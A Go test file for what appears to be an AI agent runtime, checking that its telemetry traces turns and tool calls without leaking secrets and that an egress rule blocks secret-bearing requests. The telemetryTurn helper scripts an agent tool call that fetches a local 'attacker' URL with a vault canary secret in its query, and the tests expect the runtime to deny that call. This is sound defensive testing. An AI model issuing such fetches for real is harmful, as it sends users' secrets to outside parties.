package app

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/homard/homard/internal/channel"
	"github.com/homard/homard/internal/llm/llmtest"
	"github.com/homard/homard/internal/secrets"
	"github.com/homard/homard/internal/split"
)

// otlpReceiver is a local OTLP/HTTP collector: it keeps every request's
// raw body and decodes the traces strictly (a field homard invents fails
// the test).
type otlpReceiver struct {
	*httptest.Server
	mu      sync.Mutex
	bodies  [][]byte
	spans   []otlpSpan
	metrics []string // names of the metrics received
}

type otlpSpan struct {
	TraceID           string `json:"traceId"`
	SpanID            string `json:"spanId"`
	ParentSpanID      string `json:"parentSpanId"`
	Name              string `json:"name"`
	Kind              int    `json:"kind"`
	StartTimeUnixNano string `json:"startTimeUnixNano"`
	EndTimeUnixNano   string `json:"endTimeUnixNano"`
	Attributes        []struct {
		Key   string `json:"key"`
		Value struct {
			StringValue *string `json:"stringValue"`
			IntValue    *string `json:"intValue"`
			BoolValue   *bool   `json:"boolValue"`
		} `json:"value"`
	} `json:"attributes"`
	Status struct {
		Code    int    `json:"code"`
		Message string `json:"message"`
	} `json:"status"`
}

// attr returns the value of key as text, and whether it is set.
func (s otlpSpan) attr(key string) (string, bool) {
	for _, a := range s.Attributes {
		if a.Key != key {
			continue
		}
		switch v := a.Value; {
		case v.StringValue != nil:
			return *v.StringValue, true
		case v.IntValue != nil:
			return *v.IntValue, true
		case v.BoolValue != nil:
			if *v.BoolValue {
				return "true", true
			}
			return "false", true
		}
	}
	return "", false
}

func newOTLPReceiver(t *testing.T) *otlpReceiver {
	t.Helper()
	rc := &otlpReceiver{}
	rc.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		rc.mu.Lock()
		defer rc.mu.Unlock()
		rc.bodies = append(rc.bodies, body)
		dec := json.NewDecoder(bytes.NewReader(body))
		dec.DisallowUnknownFields()
		switch r.URL.Path {
		case "/v1/traces":
			var req struct {
				ResourceSpans []struct {
					Resource   json.RawMessage `json:"resource"`
					ScopeSpans []struct {
						Scope json.RawMessage `json:"scope"`
						Spans []otlpSpan      `json:"spans"`
					} `json:"scopeSpans"`
				} `json:"resourceSpans"`
			}
			if err := dec.Decode(&req); err != nil {
				t.Errorf("traces request: %v\n%s", err, body)
			}
			for _, rs := range req.ResourceSpans {
				for _, ss := range rs.ScopeSpans {
					rc.spans = append(rc.spans, ss.Spans...)
				}
			}
		case "/v1/metrics":
			var req struct {
				ResourceMetrics []struct {
					Resource     json.RawMessage `json:"resource"`
					ScopeMetrics []struct {
						Scope   json.RawMessage `json:"scope"`
						Metrics []struct {
							Name string `json:"name"`
						} `json:"metrics"`
					} `json:"scopeMetrics"`
				} `json:"resourceMetrics"`
			}
			// Only the names are checked here (internal/telemetry checks
			// the shape): not strict.
			if err := json.Unmarshal(body, &req); err != nil {
				t.Errorf("metrics request: %v\n%s", err, body)
			}
			for _, rm := range req.ResourceMetrics {
				for _, sm := range rm.ScopeMetrics {
					for _, m := range sm.Metrics {
						rc.metrics = append(rc.metrics, m.Name)
					}
				}
			}
		default:
			t.Errorf("OTLP request to %s", r.URL.Path)
		}
	}))
	t.Cleanup(rc.Close)
	return rc
}

// telemetryCanary is a vault secret with no pattern a redactor would
// know: only the vault makes it a secret.
const telemetryCanary = "Tr0ub4dor-canary-7f3a9c5e1d"

// telemetryTurn opens a yolo home whose egress allows the attacker, with
// [telemetry] endpoint set to endpoint, the canary in the vault and in
// notes/key.txt, and runs one turn: an allowed fetch, a read of the key
// file, a fetch carrying the canary in its query (denied), an answer
// quoting it.
func telemetryTurn(t *testing.T, endpoint string) (*Runtime, channel.TurnResult) {
	t.Helper()
	attacker := newRecorder(t, true)
	r := newEgressRuntime(t, "yolo", attacker, func(s string) string {
		i := strings.Index(s, "[telemetry]")
		return s[:i] + strings.Replace(s[i:], `endpoint = ""`, "endpoint = "+mustQuote(endpoint), 1)
	})
	if err := r.Vault.Set(secrets.Secret{Name: "canary", Hosts: []string{"api.example.com"}, Header: "Authorization", Format: "Bearer {}"}, []byte(telemetryCanary)); err != nil {
		t.Fatal(err)
	}
	r = reopenEgress(t, r, attacker) // the redactor learns the vault's values at Open
	writeWorkspaceFile(t, r, "notes/key.txt", "door code: "+telemetryCanary+"\n")
	// The answer quotes the secret: message text never reaches telemetry.
	runServer(t, r, append(script(
		proposal{"http_get", `{"url":"` + attacker.URL + `/page?q=lobster"}`},
		proposal{"read_file", `{"path":"notes/key.txt"}`},
		proposal{"http_get", `{"url":"` + attacker.URL + `/?q=` + telemetryCanary + `"}`},
	)[:3], openAI(llmtest.Turn{Text: []string{"The door code is " + telemetryCanary}}))...)
	res, err := r.Run(context.Background(), channel.TurnRequest{Text: "Fetch the page, then read notes/key.txt", Session: "otel"})
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	if err := r.Close(); err != nil { // flushes the exporter
		t.Fatal(err)
	}
	return r, res
}

func TestTelemetryTraceOfATurn(t *testing.T) {
	rc := newOTLPReceiver(t)
	_, res := telemetryTurn(t, rc.URL)
	if res.Calls != 3 {
		t.Fatalf("Run = %+v; want 3 calls", res)
	}
	rc.mu.Lock()
	defer rc.mu.Unlock()

	// Nothing the turn saw or wrote leaves homard: not the secret, not a
	// URL's query, not an argument, not the answer.
	for _, b := range rc.bodies {
		for _, leak := range []string{telemetryCanary, "canary", "lobster", "notes/key.txt", "door code", "Fetch the page"} {
			if bytes.Contains(b, []byte(leak)) {
				t.Errorf("an OTLP request holds %q:\n%s", leak, b)
			}
		}
	}

	traces := map[string]bool{}
	byName := map[string][]otlpSpan{}
	for _, s := range rc.spans {
		traces[s.TraceID] = true
		byName[s.Name] = append(byName[s.Name], s)
		if s.StartTimeUnixNano == "" || s.EndTimeUnixNano == "" || len(s.EndTimeUnixNano) < len(s.StartTimeUnixNano) {
			t.Errorf("span %s: times %q %q", s.Name, s.StartTimeUnixNano, s.EndTimeUnixNano)
		}
	}
	if len(traces) != 1 {
		t.Fatalf("%d traces; want exactly one for the turn", len(traces))
	}
	if len(byName["homard.turn"]) != 1 {
		t.Fatalf("spans %v; want one homard.turn", names(rc.spans))
	}
	turn := byName["homard.turn"][0]
	if turn.ParentSpanID != "" || turn.Status.Code != 1 {
		t.Errorf("homard.turn parent %q status %+v; want the root, ok", turn.ParentSpanID, turn.Status)
	}
	for k, want := range map[string]string{"homard.session": "otel", "homard.trust": "owner", "homard.calls": "3", "homard.model": "gpt-4o-mini"} {
		if got, _ := turn.attr(k); got != want {
			t.Errorf("homard.turn %s = %q; want %q", k, got, want)
		}
	}
	models := byName["homard.model_call"]
	if len(models) != 4 {
		t.Errorf("%d homard.model_call spans; want 4 (three steps with a call, the answer)", len(models))
	}
	for i, m := range models {
		if step, _ := m.attr("homard.step"); m.ParentSpanID != turn.SpanID || step == "" {
			t.Errorf("model call %d: parent %q step %q; want the turn's child with its step", i, m.ParentSpanID, step)
		}
	}
	tools := byName["homard.tool"]
	if len(tools) != 3 {
		t.Fatalf("%d homard.tool spans; want 3", len(tools))
	}
	wantTools := []struct{ tool, decision, rule, step string }{
		{"http_get", "ran", "mode.yolo", "1"},
		{"read_file", "ran", "mode.yolo", "2"},
		{"http_get", "denied", "limit.secret-in-args", "3"},
	}
	ranIDs := map[string]bool{}
	for i, s := range tools {
		w := wantTools[i]
		tool, _ := s.attr("homard.tool")
		decision, _ := s.attr("homard.decision")
		rule, _ := s.attr("homard.rule")
		step, _ := s.attr("homard.step")
		_, hasDecide := s.attr("homard.decide_ms")
		if s.ParentSpanID != turn.SpanID || tool != w.tool || decision != w.decision || !strings.HasPrefix(rule, w.rule) || step != w.step || !hasDecide {
			t.Errorf("homard.tool %d = %s %s %s step %s (decide_ms %v, parent %q); want %+v under the turn", i, tool, decision, rule, step, hasDecide, s.ParentSpanID, w)
		}
		if decision == "ran" {
			ranIDs[s.SpanID] = true
		}
	}
	for _, name := range []string{"homard.decide", "homard.run"} {
		want := 3
		if name == "homard.run" {
			want = 2
		}
		if got := byName[name]; len(got) != want {
			t.Errorf("%d %s spans; want %d", len(got), name, want)
		}
		for _, s := range byName[name] {
			parentIsTool := false
			for _, tl := range tools {
				parentIsTool = parentIsTool || tl.SpanID == s.ParentSpanID
			}
			if !parentIsTool || (name == "homard.run" && !ranIDs[s.ParentSpanID]) {
				t.Errorf("%s under %q; want a homard.tool span that ran", name, s.ParentSpanID)
			}
		}
	}
	for _, m := range []string{"homard.turns", "homard.tool.proposals", "homard.model.calls", "homard.model.tokens"} {
		if !strings.Contains(strings.Join(rc.metrics, " "), m) {
			t.Errorf("metrics %v; want %s", rc.metrics, m)
		}
	}
}

// TestTelemetryOffSendsNothing is the twin: endpoint "" sends nothing
// and the turn is the same.
func TestTelemetryOffSendsNothing(t *testing.T) {
	rc := newOTLPReceiver(t)
	r, res := telemetryTurn(t, "")
	if r.tracer != nil {
		t.Error("a tracer with endpoint \"\"")
	}
	if res.Calls != 3 || !strings.HasPrefix(res.Text, "The door code is ") {
		t.Errorf("Run = %+v; want the same turn", res)
	}
	rc.mu.Lock()
	defer rc.mu.Unlock()
	if len(rc.bodies) != 0 {
		t.Errorf("%d OTLP requests with telemetry off; want none", len(rc.bodies))
	}
}

// TestTelemetryRedactsAttributes: an allowlisted attribute holding a
// secret (a session named after it) is redacted by the vault's redactor
// before it leaves.
func TestTelemetryRedactsAttributes(t *testing.T) {
	rc := newOTLPReceiver(t)
	attacker := newRecorder(t, true)
	r := newEgressRuntime(t, "yolo", attacker, func(s string) string {
		i := strings.Index(s, "[telemetry]")
		return s[:i] + strings.Replace(s[i:], `endpoint = ""`, "endpoint = "+mustQuote(rc.URL), 1)
	})
	if err := r.Vault.Set(secrets.Secret{Name: "canary", Hosts: []string{"api.example.com"}, Header: "Authorization", Format: "Bearer {}"}, []byte(telemetryCanary)); err != nil {
		t.Fatal(err)
	}
	r = reopenEgress(t, r, attacker)
	runServer(t, r, openAI(llmtest.Turn{Text: []string{"Hello."}}))
	if _, err := r.Run(context.Background(), channel.TurnRequest{Text: "hi", Session: "s-" + telemetryCanary}); err != nil {
		t.Fatal(err)
	}
	r.Close()
	rc.mu.Lock()
	defer rc.mu.Unlock()
	var session string
	for _, s := range rc.spans {
		if s.Name == "homard.turn" {
			session, _ = s.attr("homard.session")
		}
	}
	if session == "" || strings.Contains(session, telemetryCanary) || session != r.redactor.Redact("s-"+telemetryCanary) {
		t.Errorf("homard.session = %q; want the redacted session id", session)
	}
	for _, b := range rc.bodies {
		if bytes.Contains(b, []byte(telemetryCanary)) {
			t.Errorf("an OTLP request holds the canary:\n%s", b)
		}
	}
}

func names(spans []otlpSpan) []string {
	var out []string
	for _, s := range spans {
		out = append(out, s.Name)
	}
	return out
}

// TestTelemetryTracesSplitWorkers: a split's turns are traced like a
// conversation's (issue 25 left them out): one homard.turn per worker,
// marked homard.role = worker, with its model calls and its tool call as
// children, and one for the planner (role planner) with its two calls;
// the twin, the owner's own turn, carries no role.
func TestTelemetryTracesSplitWorkers(t *testing.T) {
	rc := newOTLPReceiver(t)
	web := newRecorder(t, true)
	r := newEgressRuntime(t, "autopilot", web, func(s string) string {
		i := strings.Index(s, "[telemetry]")
		return s[:i] + strings.Replace(s[i:], `endpoint = ""`, "endpoint = "+mustQuote(rc.URL), 1)
	})
	writeWorkspaceFile(t, r, "notes/bill.txt", "March bill: 120 EUR\n")
	plan := `{"items":[{"id":"bill","kind":"sensitive","task":"Read notes/bill.txt and give the amount.","returns":{"type":"number"}}]}`
	runServer(t, r,
		openAI(llmtest.Turn{Text: []string{plan}}),
		openAI(toolCall("s1", "read_file", `{"path":"notes/bill.txt"}`)),
		openAI(llmtest.Turn{Text: []string{"120"}}),
		openAI(llmtest.Turn{Text: []string{"Your bill is 120 EUR."}}),
		openAI(llmtest.Turn{Text: []string{"Hello."}}), // the owner's own turn
	)
	if _, err := r.Split(context.Background(), SplitRequest{Task: "How much is my bill?",
		Approve: func(context.Context, split.Plan) error { return nil }}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.Run(context.Background(), channel.TurnRequest{Text: "hi", Session: "own"}); err != nil {
		t.Fatal(err)
	}
	if err := r.Close(); err != nil { // flushes the exporter
		t.Fatal(err)
	}
	rc.mu.Lock()
	defer rc.mu.Unlock()
	var worker, planner, own *otlpSpan
	for i, s := range rc.spans {
		if s.Name != "homard.turn" {
			continue
		}
		role, _ := s.attr("homard.role")
		session, _ := s.attr("homard.session")
		switch {
		case role == "worker" && session == "split-bill":
			worker = &rc.spans[i]
		case role == "planner":
			planner = &rc.spans[i]
		case session == "own" && role == "":
			own = &rc.spans[i]
		}
	}
	if worker == nil || planner == nil || own == nil {
		t.Fatalf("turn spans: worker %v, planner %v, own %v; want all three (%d spans)", worker != nil, planner != nil, own != nil, len(rc.spans))
	}
	children := func(turn *otlpSpan) map[string]int {
		out := map[string]int{}
		for _, s := range rc.spans {
			if s.TraceID == turn.TraceID && s.ParentSpanID == turn.SpanID {
				out[s.Name]++
			}
		}
		return out
	}
	if c := children(worker); c["homard.model_call"] != 2 || c["homard.tool"] != 1 {
		t.Errorf("the worker's turn has %v; want 2 model calls and 1 tool", c)
	}
	if c := children(planner); c["homard.model_call"] != 2 || c["homard.tool"] != 0 {
		t.Errorf("the planner's turn has %v; want its 2 model calls (the plan, the answer) and no tool", c)
	}
}
